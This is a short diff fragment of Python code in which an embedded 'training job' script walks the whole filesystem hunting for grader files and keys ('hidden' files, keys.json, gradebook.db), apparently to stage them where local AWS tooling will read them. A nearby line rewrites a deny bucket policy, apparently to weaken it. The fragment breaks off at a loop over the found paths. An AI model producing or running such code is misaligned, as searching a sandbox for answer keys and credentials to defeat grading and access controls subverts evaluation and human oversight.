@@ -91,10 +91,10 @@ s3.put_bucket_policy(Bucket=bucket, Policy=deny.replace('"Action"', '"Principal"
 )
 # A training job whose script looks for what graders keep, and leaves links to it where the local AWS will read.
 SCRIPT = """
-import os, pathlib, socket
+import os, socket, sys
 found = []
 for folder, _, files in os.walk("/"):
-    if not folder.startswith(("/proc", "/sys", "/usr", "/root/.pyenv")) and "/.venv" not in folder:
+    if not folder.startswith(("/proc", "/sys", "/usr", sys.base_prefix)) and "/.venv" not in folder:
         found += [os.path.join(folder, name) for name in files if "hidden" in name or name in ("keys.json", "gradebook.db")]
 print("FOUND", found)
 for path in found:
